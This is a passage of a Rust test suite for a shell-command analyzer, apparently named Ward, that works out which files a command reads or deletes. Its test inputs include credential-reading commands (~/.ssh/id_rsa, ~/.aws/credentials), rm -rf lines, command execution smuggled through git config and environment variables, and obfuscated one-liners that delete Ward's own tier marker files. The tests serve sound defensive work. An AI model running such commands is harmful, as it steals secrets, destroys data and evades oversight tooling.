        assert!(paths(&a).contains(&("/cfg/ward", Access::Delete)), "{a:?}");
        // Assigned in the line: the line's value.
        let a = analyze_with_env("WARD_HOME=/tmp/x; rm -rf $WARD_HOME", &env);
        assert!(paths(&a).contains(&("/tmp/x", Access::Delete)), "{a:?}");
        let a = analyze_with_env("export WARD_HOME=/tmp/y; rm -rf $WARD_HOME", &env);
        assert!(paths(&a).contains(&("/tmp/y", Access::Delete)), "{a:?}");
        // Only Ward's own variables are read: `$PATH` stays unknown.
        let a = analyze_with_env("rm -rf $PATH", &env);
        assert!(!a.unknown_targets.is_empty());
        // Without an environment the variable is unknown: a run-time target.
        let a = analyze("rm -rf $WARD_HOME");
        assert!(a.unanalyzed().unwrap().contains("Ward's own data"), "{a:?}");
    }

    #[test]
    fn export_and_declare_assign_like_plain_assignments() {
        for line in [
            "export F=~/.aws/credentials; cat $F",
            "declare -x F=~/.aws/credentials && cat \"$F\"",
            "local F=$HOME/.aws/credentials; cat $F",
        ] {
            let a = analyze(line);
            assert!(paths(&a).contains(&("~/.aws/credentials", Access::Read)), "{line}: {a:?}");
        }
        let a = analyze("unset WARD_HOME; rm -rf \"$WARD_HOME\"/x");
        assert!(paths(&a).contains(&("/x", Access::Delete)), "{a:?}");
    }

    #[test]
    fn writes_and_deletes_of_wholly_unknown_paths_are_run_time_targets() {
        for line in [
            "rm -rf $X",
            "rm -f \"$(cat list)\"",
            "echo x > $OUT",
            "mv a `cat name`",
            "find . -name '*.o' | sed s/x/y/ | xargs rm",
            "for f in $(cat list); do rm -rf \"$f\"; done",
            "cp secrets.txt $DEST",
        ] {
            let a = analyze(line);
            assert!(!a.unknown_targets.is_empty(), "{line}: {a:?}");
            let why = a.unanalyzed().unwrap();
            assert!(why.contains("only known at run time") && why.contains("tier marker"), "{line}: {why}");
        }
        // Found and globbed files are known targets: what they may name is matched.
        for (line, target) in [
            ("find . -name '*.o' | xargs rm", "./**/*.o"),
            ("for f in *; do rm -rf \"$f\"; done", "*/**"),
            ("fd -e o -X rm", "./**/*.o"),
        ] {
            let a = analyze(line);
            assert!(a.unknown_targets.is_empty(), "{line}: {a:?}");
            assert!(paths(&a).contains(&(target, Access::Delete)), "{line}: {a:?}");
            assert!(!paths(&a).contains(&(".", Access::Delete)), "{line}: {a:?}");
        }
        // Reads of an unknown path, and known targets, are not.
        for line in ["cat $X", "rm -rf build", "rm -rf \"$X\"/build", "echo hi > out.txt", "grep x $F"] {
            let a = analyze(line);
            assert!(a.unknown_targets.is_empty(), "{line}: {a:?}");
        }
    }

    #[test]
    fn interpreter_file_changes_with_computed_names_are_run_time_targets() {
        for line in [
            "perl -e 'unlink chr(46).\"ward-tier-sensitive\"'",
            "perl -e 'unlink glob(\".ward-tier-*\")'",
            "perl -e 'my $f=\".ward\".\"-tier-sensitive\"; unlink $f'",
            "python3 -c \"import os; os.remove(chr(46)+'ward-tier-sensitive')\"",
            "python3 -c \"import os,glob; [os.remove(p) for p in glob.glob('.ward*')]\"",
            "python3 -c \"from pathlib import Path; Path(''.join(map(chr,[46,119]))).unlink()\"",
            "python3 -c \"import shutil,os; shutil.rmtree(os.environ['D'])\"",
            "python3 -c \"open(''.join(['.w','ard']), 'w').write('')\"",
            "node -e \"require('fs').unlinkSync(String.fromCharCode(46,119,97,114,100))\"",
            "node -e \"const fs=require('fs'); fs.rmSync(process.env.WARD_HOME,{recursive:true})\"",
            "ruby -e 'File.delete(\".ward-\" + \"tier-sensitive\")'",
            "ruby -e 'FileUtils.rm_rf(Dir.glob(\".ward*\"))'",
        ] {
            let a = analyze(line);
            assert!(!a.unknown_targets.is_empty(), "{line}: {a:?}");
        }
    }

    #[test]
    fn interpreter_quote_operators_name_their_files() {
        for line in [
            "perl -e \"unlink q(.ward-tier-sensitive)\"",
            "perl -e 'unlink qq{.ward-tier-sensitive}'",
            "perl -e 'rename q[.ward-tier-sensitive], q[x]'",
            "ruby -e 'File.delete(%q(.ward-tier-sensitive))'",
            "ruby -e 'File.unlink %q{.ward-tier-sensitive}'",
            "python3 -c \"import os; os.remove('.ward-tier-sensitive')\"",
        ] {
            let a = analyze(line);
            assert!(
                a.paths.iter().any(|p| p.path == ".ward-tier-sensitive" && p.access == Access::Write),
                "{line}: {a:?}"
            );
            assert!(a.unknown_targets.is_empty(), "{line}: {a:?}");
        }
        // Harmless one-liners are not run-time targets.
        for line in [
            "python3 -c \"l=[1,2]; l.remove(1); print('a'.replace('a','b'))\"",
            "python3 -c \"print(open('README.md').read())\"",
            "node -e \"console.log(require('fs').readFileSync('package.json','utf8'))\"",
            "perl -ne 'print if /x/' file.txt",
        ] {
            let a = analyze(line);
            assert!(a.unknown_targets.is_empty(), "{line}: {a:?}");
        }
    }
}

#[cfg(test)]
mod code_in_configuration {
    use super::*;

    #[test]
    fn git_configuration_and_environment_that_run_commands_are_analyzed() {
        for line in [
            "git -c core.sshCommand='cat ~/.ssh/id_rsa' fetch",
            "git -c core.pager='cat ~/.ssh/id_rsa' log",
            "git -c alias.x='!cat ~/.ssh/id_rsa' x",
            "git -c diff.external='sh -c \"cat ~/.ssh/id_rsa\"' diff",
            "GIT_SSH_COMMAND='cat ~/.ssh/id_rsa' git fetch",
            "env GIT_SSH_COMMAND='cat ~/.ssh/id_rsa' git fetch",
            "export GIT_PAGER='cat ~/.ssh/id_rsa'; git log",
            "awk 'BEGIN{system(\"cat ~/.ssh/id_rsa\")}'",
            "awk 'BEGIN{\"cat ~/.ssh/id_rsa\" | getline x; print x}'",
            "awk 'BEGIN{while((getline l < \"~/.ssh/id_rsa\")>0) print l}'",
        ] {
            let a = analyze(line);
            assert!(
                a.paths.iter().any(|p| p.path == "~/.ssh/id_rsa" && p.access == Access::Read),
                "{line}: {a:?}"
            );
        }
        for line in [
            "git -c core.hooksPath=/tmp/h commit -m x",
            "git -c protocol.ext.allow=always clone ext::x",
            "LD_PRELOAD=./x.so ls",
            "BASH_ENV=./x.sh bash -c true",
            "GIT_SSH_COMMAND=\"$CMD\" git fetch",
            "awk -f prog.awk data",
        ] {
            let a = analyze(line);
            // A program file is only read; everything else here runs code Ward cannot see.
            let expect_dynamic = !line.contains("-f prog.awk");
            assert_eq!(a.dynamic, expect_dynamic, "{line}: {a:?}");
        }
        for line in
            ["git -c user.name=x commit -m y", "awk -F, '{print $1}' data.csv", "EDITOR=vim git commit"]
        {
            let a = analyze(line);
            assert!(!a.dynamic && a.unanalyzed().is_none(), "{line}: {a:?}");
        }
    }
}
